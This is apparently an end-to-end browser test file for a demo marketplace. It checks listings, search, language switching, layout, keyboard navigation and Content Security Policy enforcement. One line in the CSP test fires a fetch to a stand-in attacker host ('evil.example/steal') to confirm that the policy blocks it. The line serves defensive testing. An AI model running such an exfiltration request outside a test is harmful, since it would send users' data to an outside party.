"""Browsing the demo town: home, a listing, search from the header, language, layout."""

from __future__ import annotations

import re

from playwright.sync_api import Page, expect

from tests.e2e.conftest import VIEWPORTS, watch_csp


def test_home_feed_and_listing_page(ui: Page):
    ui.goto("/")
    cards = ui.get_by_test_id("listing-card")
    expect(cards.first).to_be_visible()
    assert cards.count() >= 4
    expect(ui.get_by_test_id("category-link").first).to_be_visible()
    title = ui.get_by_test_id("listing-card-title").first.inner_text()
    ui.get_by_test_id("listing-card-link").first.click()
    expect(ui).to_have_url(re.compile(r"/listing/\d+$"))
    expect(ui.get_by_test_id("listing-title")).to_have_text(title)
    expect(ui.get_by_test_id("listing-price")).to_have_text(re.compile(r"\d|Free|免费"))
    expect(ui.get_by_test_id("listing-seller")).to_be_visible()
    image = ui.get_by_test_id("listing-gallery-image").first
    expect(image).to_be_visible()
    assert image.get_attribute("alt")
    assert image.evaluate("img => img.complete && img.naturalWidth > 0")


def test_pages_keep_to_the_content_security_policy(browser, app, size):
    """The policy is sent with every page, and the pages work within it."""
    context = browser.new_context(viewport=VIEWPORTS[size], base_url=app.url, locale="en-US")
    context.set_default_timeout(15_000)
    violations = watch_csp(context)
    try:
        page = context.new_page()
        response = page.goto("/")
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        expect(page.get_by_test_id("listing-card").first).to_be_visible()
        page.get_by_test_id("listing-card-link").first.click()
        expect(page.get_by_test_id("listing-gallery-image").first).to_be_visible()
        page.goto("/search")
        expect(page.get_by_test_id("results-count")).to_be_visible()
        page.goto("/login")
        expect(page.get_by_test_id("login-email")).to_be_visible()
        assert violations == []
        # The watch is not blind: a request to another site is refused and reported.
        page.evaluate("fetch('http://evil.example/steal').catch(() => null)")
        page.wait_for_timeout(500)
        assert any("connect-src" in v for v in violations)
    finally:
        context.close()


def test_unknown_listing_shows_a_way_back(ui: Page):
    ui.goto("/listing/999999")
    expect(ui.get_by_test_id("not-found")).to_be_visible()


def test_search_from_the_header(ui: Page):
    ui.goto("/")
    word = ui.get_by_test_id("listing-card-title").first.inner_text().split()[0][:6]
    box = ui.get_by_test_id("nav-search-input")
    box.fill(word)
    box.press("Enter")
    expect(ui).to_have_url(re.compile(r"/search\?q="))
    count = ui.get_by_test_id("results-count")
    expect(count).to_have_text(re.compile(r"[1-9]\d*"))
    expect(ui.get_by_test_id("listing-card").first).to_be_visible()


def test_language_switch_persists(ui: Page):
    ui.goto("/")
    home = ui.get_by_test_id("nav-home")
    expect(home).to_have_text("首页")
    ui.get_by_test_id("lang-switch").click()
    expect(home).to_have_text("Home")
    ui.goto("/search")
    expect(ui.get_by_test_id("nav-home")).to_have_text("Home")
    ui.get_by_test_id("lang-switch").click()
    expect(ui.get_by_test_id("nav-home")).to_have_text("首页")


def test_shell_layout_fits_the_screen(ui: Page, size: str):
    ui.goto("/")
    expect(ui.get_by_test_id("listing-card").first).to_be_visible()
    height = ui.viewport_size["height"]
    cart = ui.get_by_test_id("nav-cart").bounding_box()
    if size == "phone":
        assert cart["y"] > height - 100, "cart tab sits in the bottom bar on a phone"
    else:
        assert cart["y"] < 100, "cart link sits in the header on a desktop"
    assert ui.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    for testid in (
        "nav-home",
        "nav-search-input",
        "nav-cart",
        "nav-sell",
        "nav-inbox",
        "nav-login",
        "lang-switch",
    ):
        expect(ui.get_by_test_id(testid)).to_have_count(1)
        expect(ui.get_by_test_id(testid)).to_be_visible()
    expect(ui.get_by_test_id("cart-count")).to_have_text("0")
    for img in ui.locator("img").all():
        assert img.get_attribute("alt") is not None


def test_keyboard_reaches_search_and_nav(ui: Page):
    ui.goto("/")
    expect(ui.get_by_test_id("listing-card").first).to_be_visible()
    seen = set()
    for _ in range(12):
        ui.keyboard.press("Tab")
        seen.add(ui.evaluate("document.activeElement && document.activeElement.dataset.testid"))
    assert "nav-search-input" in seen
    assert "lang-switch" in seen
